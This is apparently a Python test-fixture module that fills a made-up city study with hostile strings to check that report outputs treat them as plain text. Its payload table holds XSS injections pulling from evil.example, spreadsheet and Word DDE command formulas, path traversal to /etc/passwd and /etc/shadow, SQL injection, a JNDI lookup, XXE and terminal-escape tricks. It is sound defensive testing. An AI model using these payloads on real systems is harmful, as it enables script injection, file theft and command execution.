"""Texts that would do harm where an output took them for more than text, and a study full of them.

``HOSTILE``: id -> (where it is worst, the text); every text stands in every place of the study:
title, sentence, outlet, id, story, address, name of a city, label of a burst, word and name of a
topic.
Another output is tested by adding it to the tests that take ``hostile_study`` (conftest): every
text must come out as text, or not at all.
"""

import datetime
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

from citysway.reports.words.names import Names
from tests.reports.factory import Rows, add_document, write_study
from tests.reports.schemas import FILES
from tests.reports.topic_tables import write_topic_tables

CITY = ("CN320500", "苏州", "Suzhou")
#: A place of the user's own table: id and names are theirs.
BAD_CITY = ("CN../../../../evil", '"><script>steal(1)</script>', "=cmd|'/c calc'!A1")
TITLE, SENTENCE, OUTLET, URL, DOC_ID, STORY = (
    *("title", "sentence", "outlet", "url", "doc_id", "story"),
)
HOSTILE: dict[str, tuple[str, str]] = {
    # script and elements
    "script": (TITLE, "<script>steal(1)</script>"),
    "script_upper": (TITLE, "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    "script_split": (TITLE, "<scr<script>ipt>steal(1)</scr</script>ipt>"),
    "close_title": (TITLE, "</title><script>steal(2)</script>"),
    "close_style": (SENTENCE, "</style><style>*{display:none}</style>"),
    "close_script": (SENTENCE, '</script><script>document.title="hit"</script>'),
    "comment": (SENTENCE, "--><script>steal(3)</script><!--"),
    "cdata": (SENTENCE, "]]><script>steal(4)</script>"),
    "img": (SENTENCE, "<img src=x onerror=steal(5)>"),
    "img_slash": (SENTENCE, "<img/src=x/onerror=steal(6)>"),
    "svg": (SENTENCE, "<svg onload=steal(7)>"),
    "svg_script": (TITLE, "<svg><script>steal(8)</script></svg>"),
    "svg_use": (SENTENCE, '<svg><use href="//evil.example/#x"/></svg>'),
    "math": (SENTENCE, '<math><a xlink:href="javascript:steal(9)">x</a></math>'),
    "iframe": (SENTENCE, '<iframe srcdoc="<script>steal(10)</script>"></iframe>'),
    "object": (SENTENCE, '<object data="data:text/html,x"></object>'),
    "base": (SENTENCE, '<base href="//evil.example/">'),
    "meta": (SENTENCE, '<meta http-equiv="refresh" content="0;url=//evil.example">'),
    "form": (SENTENCE, '<form action="//evil.example"><input autofocus onfocus=steal(11)></form>'),
    "details": (SENTENCE, "<details open ontoggle=steal(12)>"),
    "link": (SENTENCE, '<link rel=stylesheet href="//evil.example/x.css">'),
    "template": (SENTENCE, "<template><script>steal(13)</script></template>"),
    # attributes
    "quote_out": (OUTLET, '"><script>steal(14)</script>'),
    "quote_event": (OUTLET, '" onmouseover="steal(15)'),
    "single_event": (OUTLET, "' onmouseover='steal(16)"),
    "backtick": (OUTLET, "`onmouseover=steal(17)`"),
    "entity": (TITLE, "&lt;script&gt;steal(18)&lt;/script&gt;"),
    "entity_open": (TITLE, "&#60script&#62steal(19)"),
    # addresses
    "url_js": (URL, "javascript:steal(20)"),
    "url_js_case": (URL, "JaVaScRiPt:steal(21)"),
    "url_js_tab": (URL, "java\tscript:steal(22)"),
    "url_js_space": (URL, " javascript:steal(23)"),
    "url_data": (URL, "data:text/html,<script>steal(24)</script>"),
    "url_vb": (URL, "vbscript:steal(25)"),
    "url_file": (URL, "file:///etc/passwd"),
    "url_scheme": (URL, "//evil.example/x"),
    "url_quote": (URL, 'https://example.org/"onclick="steal(26)'),
    "url_angle": (URL, "https://example.org/><script>steal(27)</script>"),
    "url_port": (URL, "http://[::1"),
    "url_long": (URL, "https://example.org/" + "a" * 5000),
    # style
    "css_expression": (SENTENCE, '<b style="width:expression(steal(28))">x</b>'),
    "css_url": (SENTENCE, '<b style="background:url(//evil.example/x)">x</b>'),
    "css_import": (SENTENCE, "@import url(//evil.example/x.css);"),
    # templates and formats
    "jinja": (SENTENCE, "{{ 7*7 }}{% raw %}"),
    "jinja_class": (TITLE, "{{ ''.__class__.__mro__ }}"),
    "dollar": (SENTENCE, "${7*7} #{7*7} <%= 7*7 %>"),
    "percent": (TITLE, "%s %n %(x)s {0} {text}"),
    "markdown": (TITLE, "[x](javascript:steal(29)) ![x](//evil.example/x.png)"),
    "rich": (TITLE, "[bold red]x[/] [link=file:///etc/passwd]y[/link]"),
    # signs that take effect
    "ansi": (SENTENCE, "\x1b[31mred\x1b[0m"),
    "ansi_title": (TITLE, "\x1b]0;hit\x07"),
    "ansi_8bit": (OUTLET, "\x9b31mred"),
    "osc_link": (SENTENCE, "\x1b]8;;file:///etc/passwd\x1b\\x\x1b]8;;\x1b\\"),
    "backspace": (TITLE, "good\x08\x08\x08\x08evil"),
    "return": (TITLE, "good\revil"),
    "nul": (SENTENCE, "a\x00b"),
    "bidi": (TITLE, "\u202egnp.exe\u202c"),
    "bidi_isolate": (OUTLET, "\u2067x\u2069"),
    "line_sep": (TITLE, "a\u2028b\u2029c"),
    "noncharacter": (SENTENCE, "a\ufffeb\uffff"),
    "zalgo": (TITLE, "e" + "\u0301" * 300),
    # spreadsheets
    "formula": (TITLE, '=HYPERLINK("http://evil.example","x")'),
    "formula_plus": (TITLE, "+cmd|'/c calc'!A1"),
    "formula_minus": (TITLE, "-2+3+cmd|'/c calc'!A1"),
    "formula_at": (TITLE, "@SUM(1+1)*cmd|'/c calc'!A1"),
    "formula_wide": (TITLE, "＝1+1"),
    "formula_wide_plus": (OUTLET, "＋1"),
    "formula_wide_minus": (OUTLET, "－1"),
    "formula_wide_at": (OUTLET, "＠SUM(1)"),
    "formula_tab": (TITLE, "\t=1+1"),
    "formula_return": (TITLE, "\r=1+1"),
    "formula_outlet": (OUTLET, "=1+1"),
    "formula_story": (STORY, "=1+2"),
    "csv_break": (TITLE, '","","=1+1\n=2+2'),
    "formula_id": (DOC_ID, "=1+3"),
    # paths and keys
    "path_doc": (DOC_ID, "../../../etc/passwd"),
    "path_windows": (DOC_ID, "..\\..\\windows\\system32"),
    "path_nul": (DOC_ID, "a\x00.html"),
    "path_source": (OUTLET, "../../../etc/cron.d/evil"),
    "path_story": (STORY, "../../evil"),
    "sql": (DOC_ID, "'; DROP TABLE documents; --"),
    "sql_outlet": (OUTLET, "x' OR '1'='1"),
    "glob": (DOC_ID, "*?[a-z]"),
    # formats and what their readers change
    "formula_cn": (TITLE, '=HYPERLINK("http://evil.example","点我")'),
    "formula_dde": (TITLE, "+1+cmd|' /C calc'!A0"),
    "formula_number": (TITLE, "-2+3"),
    "formula_sum": (TITLE, "@SUM(1+1)"),
    "formula_all_wide": (TITLE, "＝１＋１"),
    "word_plus": (OUTLET, "＋加号"),
    "word_minus": (OUTLET, "－减号"),
    "word_at": (OUTLET, "＠某人"),
    "formula_line": (TITLE, "\n=1+1"),
    "formula_nul": (SENTENCE, "\x00=1+1"),
    "formula_space": (TITLE, " =1+1"),
    "controls": (SENTENCE, "a\x00b\x01c\x1fd\x7fe"),
    "apostrophe_formula": (TITLE, "'=1+1"),
    "apostrophes": (TITLE, "''@x"),
    "apostrophe": (TITLE, "'"),
    "na": (TITLE, "NA"),
    "apostrophe_na": (TITLE, "'NA"),
    "null": (TITLE, "NULL"),
    "empty": (TITLE, ""),
    "space": (TITLE, " "),
    "number": (TITLE, "-12.5"),
    "zeros": (DOC_ID, "0012"),
    "power": (DOC_ID, "1e5"),
    "lines": (TITLE, "第一行\n第二行\r\n第三行\r"),
    "separators": (TITLE, 'quo"te, "comma", ;semicolon'),
    "backslashes": (TITLE, "back\\slash \\N \\e | pipe \\|"),
    "xml_escape": (TITLE, "_x0041_ _x005F_ _x000D_"),
    "path_ini": (DOC_ID, "..\\..\\windows\\system.ini"),
    "path_root": (DOC_ID, "/etc/shadow"),
    "path_drive": (DOC_ID, "C:\\x.csv"),
    "path_device": (DOC_ID, "NUL"),
    "script_alert": (TITLE, "</script><script>alert(1)</script>"),
    "jndi": (TITLE, "{{ 7*7 }} ${jndi:ldap://evil.example}"),
    "bidi_word": (TITLE, "\u202e反转\u202c\u200b零宽\ufeff"),
    "noncharacter_end": (TITLE, "\ufffe\uffff末尾"),
    "astral": (TITLE, "😀👨\u200d👩\u200d👧 𠮷野家 𫞩"),
    "equals": (TITLE, "="),
    "quotes": (TITLE, "苏州市 Suzhou, ‘引号’"),
    "sql_comment": (DOC_ID, "DROP TABLE documents; --"),
    "sdmx": (DOC_ID, "$2E$ @ _Z _T *&"),
    # a browser that runs one of these says so
    "hit_script": (TITLE, "<script>window.__hit=1</script>"),
    "hit_title": (TITLE, "</title><script>window.__hit=2</script>"),
    "hit_style": (TITLE, "</style><script>window.__hit=3</script>"),
    "hit_script_end": (SENTENCE, "</script><script>window.__hit=4</script>"),
    "hit_comment": (SENTENCE, "--><script>window.__hit=5</script>"),
    "hit_image": (SENTENCE, "<img src=x onerror=window.__hit=6>"),
    "hit_svg": (TITLE, "<svg onload=window.__hit=7>"),
    "hit_svg_close": (TITLE, "</text></svg><svg><script>window.__hit=8</script>"),
    "hit_attribute": (OUTLET, '" autofocus tabindex=0 onfocus="window.__hit=9'),
    "hit_details": (SENTENCE, "<details open ontoggle=window.__hit=10>"),
    "hit_frame": (SENTENCE, '<iframe srcdoc="<script>parent.__hit=11</script>"></iframe>'),
    "hit_animate": (TITLE, "<svg><animate onbegin=window.__hit=12 attributeName=x dur=1s>"),
    "request_image": (TITLE, '<img src="https://evil.example/seen.png">'),
    "request_style": (TITLE, '" style="background:url(https://evil.example/seen.png)'),
    # Word: fields, and what its files are made of
    "field_code": (TITLE, '{ DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" }'),
    "field_xml": (TITLE, '<w:fldSimple w:instr="DDEAUTO cmd"/>'),
    "entity_xml": (TITLE, '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;'),
    # addresses with signs that no address has
    "url_bidi": (URL, "https://example.org/\u202egnp.exe"),
    "url_escape": (URL, "https://example.org/\x1b[31m"),
    "url_space": (URL, "https://example.org/a b%zz\\c{d}|e^f`g"),
    "url_user": (URL, "https://example.org@evil.test/"),
    # the search of a study
    "fts_quote": (TITLE, '"unfinished AND'),
    "fts_column": (TITLE, "title:苏州 OR body:*"),
    "fts_near": (TITLE, "NEAR(苏州 街区, 5) ^x {a b}: -c"),
    "fts_marks": (TITLE, "\ue000x\ue001\x1fy\x02\x03"),
    # size
    "long_line": (SENTENCE, "很" * 20_000),
    "long_title": (TITLE, "长" * 20_000),
    "many_lines": (SENTENCE, "\n" * 500),
}
#: Half a character: no table holds it, but a text typed into a terminal may.
SURROGATES = ("\ud800", "a\udfffb", "\udc00\ud800")


#: A city for every text: its names are the text.
NAMED = {f"HX{number:04d}": text for number, (_, text) in enumerate(HOSTILE.values())}

#: Cities whose pages the quick tests look at: full of hostile texts, a hostile id, a hostile name.
REPORTED = [CITY[0], BAD_CITY[0], "HX0000"]


def where(place: str) -> list[str]:
    """The texts that are worst in one place."""
    return [text for at, text in HOSTILE.values() if at == place]


def add_hostile(rows: Rows) -> None:
    """A document for every hostile text, and one on the city with a hostile id."""
    for number, (name, (place, text)) in enumerate(HOSTILE.items()):
        _add(rows, CITY, f"bad-{name}", number, place, text)
        rows["doc_city"][-1].update(story_id=text, cities=2)
        rows["doc_city"].append(rows["doc_city"][-1] | {"city_id": f"HX{number:04d}"})
    _add(rows, BAD_CITY, "bad-city", 0, TITLE, "a city by another name")


def _add(
    rows: Rows, city: tuple[str, str, str], name: str, number: int, place: str, text: str
) -> None:
    zh = number % 2 == 1
    term = "历史文化街区" if zh else "historic district"
    sentence = ("{city}的" + term + text + "。") if zh else ("{city} has a " + term + " " + text)
    add_document(
        rows,
        city=city,
        doc_id=text or name,
        source=text or name,
        role="nat",
        zh=zh,
        sentences=[(sentence, term, "E03", 1 - number % 3)],
        title=text,
        kind="news",
        date=datetime.date(2024, 1 + number % 12, 3),
        url=text if place == URL else f"https://example.org/{number}",
    )


def write_hostile(out: Path) -> Path:
    """A study with every hostile text in its tables."""
    write_study(out, more=add_hostile)
    _add_events(out)
    write_topic_tables(out, texts=[text for _, text in HOSTILE.values()])
    _add_numbers(out)
    return out


def _add_events(out: Path) -> None:
    """A burst of CITY named by the document of every text, the strongest first."""
    rows = [
        {"city_id": CITY[0], "kind": "burst", "month": f"2024-{1 + number % 12:02d}", "until": None,
         "value": 300.0 - number, "expected": 1.0, "p": 0.001, "share": 0.5,
         "doc_id": text or f"bad-{name}"}
        for number, (name, (_, text)) in enumerate(HOSTILE.items())
    ]  # fmt: skip
    pq.write_table(pa.Table.from_pylist(rows, _BURSTS), out / "bursts.parquet")


_BURSTS = pa.schema(
    [(name, pa.string()) for name in ("city_id", "kind", "month", "until")]
    + [(name, pa.float64()) for name in ("value", "expected", "p", "share")]
    + [("doc_id", pa.string())]
)


def _add_numbers(out: Path) -> None:
    """The city with a hostile id and those with hostile names have every number of CITY."""
    path = out / FILES["indicators"][0]
    table = pq.read_table(path)
    rows = [row for row in table.to_pylist() if row["city_id"] == CITY[0]]
    more = [row | {"city_id": city} for city in (BAD_CITY[0], *NAMED) for row in rows]
    whole = [*table.to_pylist(), *more]
    key = ("indicator", "part", "variant", "role", "lang", "period", "city_id")
    whole.sort(key=lambda row: tuple(row[name] for name in key))
    pq.write_table(pa.Table.from_pylist(whole, table.schema), path)


def hostile_names(names: Names) -> Names:
    """The names of the made-up study, and those of the hostile cities."""
    cities = dict(names.cities) | {BAD_CITY[0]: BAD_CITY[1:]}
    cities |= {city: (text, text) for city, text in NAMED.items()}
    return Names(cities=cities, codes=names.codes, categories=names.categories)
